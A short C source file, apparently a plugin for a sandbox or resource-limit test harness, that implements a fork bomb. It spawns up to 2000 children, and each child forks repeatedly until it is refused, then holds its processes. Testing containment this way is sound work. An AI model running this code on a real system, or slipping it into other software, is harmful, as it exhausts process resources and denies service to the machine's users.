// May make processes, and makes as many as it can, each of them doing the same. Those that can make
// no more stay, and hold what they have.
#include "evil.h"

static void attack(void) {
  int made = 0;
  for (int i = 0; i < 2000; ++i) {
    const pid_t child = fork();
    if (child == 0) {
      for (;;) {
        if (fork() < 0) pause();
      }
    }
    if (child < 0) {
      attempt("processes", -1);
      return;
    }
    ++made;
  }
  say("SUCCEEDED %d processes", made);
}

EVIL_PLUGIN;
